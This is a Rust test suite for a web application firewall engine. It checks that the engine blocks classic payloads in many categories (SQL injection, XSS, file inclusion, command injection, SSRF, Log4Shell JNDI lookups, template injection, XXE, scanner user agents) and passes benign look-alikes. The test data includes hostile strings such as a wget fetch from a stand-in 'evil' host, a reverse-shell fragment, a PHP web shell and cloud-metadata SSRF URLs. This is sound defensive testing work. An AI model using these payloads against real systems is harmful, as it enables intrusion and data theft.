//! Engine-level tests: every category catches classic payloads and leaves benign
//! look-alikes alone; exclusions, paranoia, threshold and pathological inputs.

use crate::{Category, Engine, EngineConfig, HttpRequest, RuleSet, Verdict};

fn engine(paranoia: u8) -> Engine {
    Engine::new(
        RuleSet::builtin().unwrap(),
        EngineConfig {
            paranoia,
            threshold: 5,
        },
    )
}

fn get(uri: &str) -> HttpRequest {
    HttpRequest {
        method: "GET".into(),
        uri: uri.into(),
        protocol: "HTTP/1.1".into(),
        headers: vec![
            ("Host".into(), "example.com".into()),
            (
                "User-Agent".into(),
                "Mozilla/5.0 (X11; Linux x86_64) Firefox/120.0".into(),
            ),
        ],
        body: Vec::new(),
        client_ip: None,
    }
}

fn with_arg(value: &str) -> HttpRequest {
    let mut enc = String::new();
    for b in value.bytes() {
        if b.is_ascii_alphanumeric() || b"./-_".contains(&b) {
            enc.push(char::from(b));
        } else {
            enc.push_str(&format!("%{b:02X}"));
        }
    }
    get(&format!("/search?q={enc}"))
}

fn cats(v: &Verdict) -> Vec<Category> {
    v.findings.iter().map(|f| f.category).collect()
}

fn assert_caught(e: &Engine, cat: Category, payloads: &[&str]) {
    for p in payloads {
        let v = e.inspect(&with_arg(p));
        assert!(v.blocked, "not blocked: {p:?} -> {v:?}");
        assert!(cats(&v).contains(&cat), "{p:?} not {cat}: {v:?}");
    }
}

fn assert_clean(e: &Engine, values: &[&str]) {
    for p in values {
        let v = e.inspect(&with_arg(p));
        assert!(!v.blocked, "false positive: {p:?} -> {v:?}");
    }
}

#[test]
fn sqli() {
    let e = engine(1);
    assert_caught(
        &e,
        Category::Sqli,
        &[
            "1' OR 1=1--",
            "' or 'a'='a",
            "1 UNION ALL SELECT username, password FROM users",
            "1/**/UNION/**/SELECT/**/1,2",
            "1; DROP TABLE users",
            "'; DROP TABLE usuarios; SELECT * FROM datos WHERE nombre LIKE '%",
            "1 AND SLEEP(5)",
            "1'; WAITFOR DELAY '0:0:5'--",
            "1 and 1=1",
            "loginAND 1=1",
            "x' UNION SELECT table_name FROM information_schema.tables#",
            "admin'--",
            "ＵＮＩＯＮ ＳＥＬＥＣＴ 1",
        ],
    );
    assert_clean(
        &e,
        &[
            "O'Brien",
            "select a product",
            "1=1 in math text",
            "Rock 'n' roll",
            "Please select your size from the list",
            "union members meet on friday",
            "it's a drop-in replacement",
        ],
    );
}

#[test]
fn xss() {
    let e = engine(1);
    assert_caught(
        &e,
        Category::Xss,
        &[
            "<script>alert(1)</script>",
            "<img src=x onerror=alert(1)>",
            "<svg/onload=alert(1)>",
            "javascript:alert(document.cookie)",
            "&lt;script&gt;alert(1)&lt;/script&gt;",
            "\"><iframe src=//evil>",
            "%3Cscript%3Ealert(1)%3C/script%3E",
        ],
    );
    assert_clean(
        &e,
        &[
            "I love javascript and scripting",
            "online=yes",
            "Tom & Jerry <3",
            "a < b > c",
            "mention the onload event",
        ],
    );
}

#[test]
fn lfi() {
    let e = engine(1);
    assert_caught(
        &e,
        Category::Lfi,
        &[
            "../../../../etc/passwd",
            "..\\..\\..\\boot.ini",
            "/etc/passwd",
            "c:\\windows\\win.ini",
            "../../config.php%00.jpg",
        ],
    );
    let v = e.inspect(&get("/static/%2e%2e/%2e%2e/etc/passwd"));
    assert!(v.blocked && cats(&v).contains(&Category::Lfi), "{v:?}");
    let v = e.inspect(&get("/backup/site.bak"));
    assert!(v.blocked, "{v:?}");
    assert_clean(
        &e,
        &[
            "docs/guide/../intro.html",
            "1..10",
            "passwords are secret",
            "my.ini.txt file",
        ],
    );
    assert!(!e.inspect(&get("/a/b/../c/index.html")).blocked);
    // Downloads a site serves on purpose are not attacks (seen as critical false
    // positives on a real log); at paranoia 2 they are a warning, never a block alone.
    let pl2 = engine(2);
    for path in [
        "/misc/sample.log",
        "/files/dynamic-dns-with-dhcp/dhcpd.conf",
        "/misc/client.java",
    ] {
        let v = e.inspect(&get(path));
        assert!(v.findings.is_empty(), "{path}: {v:?}");
        let v = pl2.inspect(&get(path));
        assert!(!v.blocked && !v.findings.is_empty(), "{path}: {v:?}");
    }
}

#[test]
fn rfi() {
    let e = engine(1);
    assert_caught(
        &e,
        Category::Rfi,
        &[
            "http://203.0.113.5/shell.txt",
            "http://evil.example/shell.txt?",
            "php://filter/convert.base64-encode/resource=index.php",
        ],
    );
    assert_clean(
        &e,
        &["https://example.com/page", "see http://example.org/docs"],
    );
}

#[test]
fn rce() {
    let e = engine(1);
    assert_caught(
        &e,
        Category::Rce,
        &[
            "127.0.0.1; cat /etc/hosts",
            "x && wget http://evil/x.sh",
            "a | id",
            "$(whoami)",
            "`id`; /bin/sh -i",
            "cmd.exe /c dir",
            "powershell -enc SQBFAFgA",
            "<!--#exec cmd=\"ls\" -->",
            "1;c^a^t /e't'c/hosts",
            "<?php system($_GET['c']); ?>",
            "<?=`id`?>",
            "assert(base64_decode('c3lzdGVt'))",
            "O:8:\"stdClass\":1:{s:1:\"a\";i:1;}",
            "rO0ABXNyABdqYXZhLnV0aWwuUHJpb3JpdHlRdWV1ZQ",
            "${T(java.lang.Runtime).getRuntime().exec('id')}",
        ],
    );
    assert_clean(
        &e,
        &[
            "Tom & Jerry",
            "cats; dogs",
            "I use PowerShell at work",
            "identity card",
            "the system (as designed) works",
            "<?xml version=\"1.0\"?>",
            "Order: 12:\"blue\"",
            "java developer, lang: en",
        ],
    );
    // In Referer and User-Agent, a PHP function name in prose is not code injection;
    // a call carrying code is.
    let with_header = |name: &str, value: &str| {
        let mut r = get("/");
        r.headers.push((name.into(), value.into()));
        r
    };
    let spam = "http://example.com/presentations/vim/ result: i never really liked c's assert() feature. if an assertion is violated";
    let v = e.inspect(&with_header("Referer", spam));
    assert!(v.findings.is_empty(), "{v:?}");
    for payload in [
        "assert($_POST['x'])",
        "system('id');",
        "eval(base64_decode('ZWNobyAx'));",
    ] {
        let v = e.inspect(&with_header("User-Agent", payload));
        assert!(
            v.blocked && cats(&v).contains(&Category::Rce),
            "{payload}: {v:?}"
        );
        let v = e.inspect(&with_header("Referer", payload));
        assert!(v.blocked, "{payload}: {v:?}");
    }
}

#[test]
fn ssrf() {
    let e = engine(1);
    assert_caught(
        &e,
        Category::Ssrf,
        &[
            "http://169.254.169.254/latest/meta-data/",
            "http://metadata.google.internal/computeMetadata/v1/",
            "gopher://127.0.0.1:6379/_",
            "file:///etc/shadow",
            "http://localhost:8080/admin",
            "http://127.0.0.1/",
            "dict://internal:11211/",
        ],
    );
    assert_clean(&e, &["https://example.com/", "localhost is my machine"]);
}

#[test]
fn jndi() {
    let e = engine(1);
    assert_caught(
        &e,
        Category::Jndi,
        &[
            "${jndi:ldap://evil.example/a}",
            "${${lower:j}ndi:${lower:l}dap://x/y}",
            "${${::-j}${::-n}${::-d}${::-i}:rmi://x/y}",
            "${jndi:dns://x}",
        ],
    );
    let mut r = get("/");
    r.headers
        .push(("User-Agent".into(), "${jndi:ldap://x/a}".into()));
    assert!(e.inspect(&r).blocked);
    assert_clean(&e, &["${price} dollars", "costs $5 {approx}"]);
}

#[test]
fn ssti() {
    let e = engine(1);
    assert_caught(
        &e,
        Category::Ssti,
        &[
            "{{7*7}}",
            "${7*7}",
            "#{7*7}",
            "<%= 7*7 %>",
            "{{ ''.__class__.__mro__[1].__subclasses__() }}",
            "${T(java.lang.Runtime).getRuntime().exec('id')}",
        ],
    );
    assert_clean(&e, &["{{ hello }} world", "a {b} c", "7*7=49"]);
}

#[test]
fn xxe() {
    let e = engine(1);
    let mut r = get("/xml");
    r.method = "POST".into();
    r.headers
        .push(("Content-Type".into(), "application/xml".into()));
    r.body =
        br#"<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>"#
            .to_vec();
    let v = e.inspect(&r);
    assert!(v.blocked && cats(&v).contains(&Category::Xxe), "{v:?}");
    r.body = br#"<?xml version="1.0"?><order><item>entity list</item></order>"#.to_vec();
    assert!(!e.inspect(&r).blocked);
}

#[test]
fn protocol_anomalies() {
    let e = engine(1);
    let mut r = get("/");
    r.method = "FOOBAR".into();
    assert!(e.inspect(&r).blocked);

    let mut r = get("/");
    r.headers.push(("Content-Length".into(), "12".into()));
    r.headers
        .push(("Transfer-Encoding".into(), "chunked".into()));
    assert!(e.inspect(&r).blocked);

    let mut r = get("/");
    r.headers.push(("Content-Length".into(), "12x".into()));
    assert!(e.inspect(&r).blocked);

    let v = e.inspect(&get("/?a=b%00c"));
    assert!(v.blocked, "{v:?}");

    // Missing Host alone is a warning (3 points), not a block.
    let mut r = get("/");
    r.headers.retain(|(k, _)| k != "Host");
    let v = e.inspect(&r);
    assert_eq!(v.score, 3);
    assert!(!v.blocked);

    let v = e.inspect(&get("/?a=1%0d%0aSet-Cookie:%20x=1"));
    assert!(v.blocked, "{v:?}");
}

#[test]
fn scanners() {
    let e = engine(1);
    for ua in [
        "sqlmap/1.7.2#stable",
        "Mozilla/5.00 (Nikto/2.1.6)",
        "Nuclei - Open-source",
        "gobuster/3.6",
    ] {
        let mut r = get("/");
        r.headers.retain(|(k, _)| k != "User-Agent");
        r.headers.push(("User-Agent".into(), ua.into()));
        let v = e.inspect(&r);
        assert!(
            v.blocked && cats(&v).contains(&Category::Scanner),
            "{ua}: {v:?}"
        );
    }
    assert!(!e.inspect(&get("/")).blocked);
}

#[test]
fn benign_requests_pass() {
    let e = engine(2);
    for uri in [
        "/",
        "/products?id=42&sort=price&order=asc",
        "/search?q=O%27Brien+and+sons",
        "/blog/2024/01/hello-world",
        "/api/v1/items?filter=name%3Dfoo&page=2",
        "/login?next=%2Fdashboard",
    ] {
        let v = e.inspect(&get(uri));
        assert!(!v.blocked, "{uri}: {v:?}");
    }
    let mut r = get("/api/items");
    r.method = "POST".into();
    r.headers
        .push(("Content-Type".into(), "application/json".into()));
    r.body =
        br#"{"name":"Widget","tags":["a","b"],"price":9.5,"note":"Don't select the wrong one"}"#
            .to_vec();
    assert!(!e.inspect(&r).blocked);
}

#[test]
fn body_json_and_form_inspected() {
    let e = engine(1);
    let mut r = get("/api/items");
    r.method = "POST".into();
    r.headers
        .push(("Content-Type".into(), "application/json".into()));
    r.body = br#"{"a":{"b":["ok","1' UNION SELECT password FROM users--"]}}"#.to_vec();
    let v = e.inspect(&r);
    assert!(v.blocked);
    let f = v
        .findings
        .iter()
        .find(|f| f.category == Category::Sqli)
        .unwrap();
    assert_eq!(f.name_of_part, "a.b[1]");
    assert_eq!(f.location, "body_arg");

    let mut r = get("/form");
    r.method = "POST".into();
    r.headers.push((
        "Content-Type".into(),
        "application/x-www-form-urlencoded".into(),
    ));
    r.body = b"comment=%3Cscript%3Ealert(1)%3C%2Fscript%3E".to_vec();
    assert!(e.inspect(&r).blocked);
}

#[test]
fn evidence_is_capped() {
    let e = engine(1);
    let payload = format!("<script>{}</script>", "a".repeat(5000));
    let v = e.inspect(&with_arg(&payload));
    let f = v.findings.iter().find(|f| f.rule_id == 941110).unwrap();
    assert!(f.decoded_value.chars().count() <= 500);
    assert!(f.matched.chars().count() <= 200);
    assert_eq!(f.name_of_part, "q");
    assert!(f.matched.contains("script"));
}

#[test]
fn exclusions_skip_rules_for_target_on_path() {
    let mut set = RuleSet::builtin().unwrap();
    set.add_source(
        "ex.toml",
        "[[exclusion]]\nrule_ids = [941110, 941150]\npath_prefix = \"/cms\"\ntarget = \"args:body\"\n",
    )
    .unwrap();
    let e = Engine::new(set, EngineConfig::default());
    let v = e.inspect(&get("/cms/save?body=%3Cscript%3Ealert(1)%3C/script%3E"));
    assert!(
        !v.findings
            .iter()
            .any(|f| f.rule_id == 941110 || f.rule_id == 941150),
        "{v:?}"
    );
    // Other paths and other targets are still inspected.
    let v = e.inspect(&get("/other?body=%3Cscript%3Ealert(1)%3C/script%3E"));
    assert!(v.findings.iter().any(|f| f.rule_id == 941110));
    let v = e.inspect(&get("/cms/save?title=%3Cscript%3Ealert(1)%3C/script%3E"));
    assert!(v.findings.iter().any(|f| f.rule_id == 941110));
}

#[test]
fn paranoia_filters_rules() {
    let payload = "select name from the list"; // only the PL2 SELECT ... FROM rule
    let v1 = engine(1).inspect(&with_arg(payload));
    assert!(!v1.findings.iter().any(|f| f.rule_id == 942200));
    let v2 = engine(2).inspect(&with_arg(payload));
    assert!(
        v2.findings
            .iter()
            .any(|f| f.rule_id == 942200 && f.paranoia == 2)
    );
    assert!(engine(1).active_rules() < engine(4).active_rules());
    // Out-of-range paranoia is clamped.
    let e = Engine::new(
        RuleSet::builtin().unwrap(),
        EngineConfig {
            paranoia: 9,
            threshold: 5,
        },
    );
    assert_eq!(e.config().paranoia, 4);
}

#[test]
fn threshold_decides_blocking() {
    let mut r = get("/");
    r.headers.retain(|(k, _)| k != "Host"); // warning: 3 points
    let strict = Engine::new(
        RuleSet::builtin().unwrap(),
        EngineConfig {
            paranoia: 1,
            threshold: 3,
        },
    );
    let v = strict.inspect(&r);
    assert_eq!((v.score, v.threshold, v.blocked), (3, 3, true));
    let lax = Engine::new(
        RuleSet::builtin().unwrap(),
        EngineConfig {
            paranoia: 1,
            threshold: 100,
        },
    );
    let v = lax.inspect(&with_arg("1' UNION SELECT 1--"));
    assert!(v.score >= 5 && !v.blocked);
}

#[test]
fn pathological_inputs() {
    let e = engine(4);
    // 100k-character parameter.
    let v = e.inspect(&get(&format!("/?q={}", "a".repeat(100_000))));
    assert!(v.findings.iter().any(|f| f.rule_id == 920140), "{v:?}");
    // 100k of repeated attack-ish characters.
    let v = e.inspect(&get(&format!("/?q={}", "%27%20or%20".repeat(20_000))));
    assert!(v.blocked);
    // JSON nested 10k deep.
    let mut r = get("/api");
    r.method = "POST".into();
    r.headers
        .push(("Content-Type".into(), "application/json".into()));
    r.body = format!("{}\"x\"{}", "[".repeat(10_000), "]".repeat(10_000)).into_bytes();
    let v = e.inspect(&r);
    assert!(v.findings.iter().any(|f| f.rule_id == 920170), "{v:?}");
    let mut r2 = r.clone();
    r2.body = "{\"a\":".repeat(10_000).into_bytes();
    let _ = e.inspect(&r2);
    // 10k parameters.
    let many: Vec<String> = (0..10_000).map(|i| format!("p{i}=v{i}")).collect();
    let v = e.inspect(&get(&format!("/?{}", many.join("&"))));
    assert!(
        v.blocked && v.findings.iter().any(|f| f.rule_id == 920130),
        "{v:?}"
    );
    // Garbage bytes and broken encodings.
    let mut r3 = get("/%ff%fe%u12?%=%&&=&%zz=%");
    r3.body = vec![0xff, 0x00, 0xfe, b'%'];
    let _ = e.inspect(&r3);
}

#[test]
fn libinjection_operators_are_wired() {
    let e = engine(1);
    assert!(
        e.unsupported_rules().is_empty(),
        "{:?}",
        e.unsupported_rules()
    );
    let v = e.inspect(&with_arg("1' or '1'='1"));
    assert!(v.findings.iter().any(|f| f.rule_id == 942100), "{v:?}");
    let v = e.inspect(&with_arg("<img src=x onerror=alert(1)>"));
    assert!(v.findings.iter().any(|f| f.rule_id == 941100), "{v:?}");
}
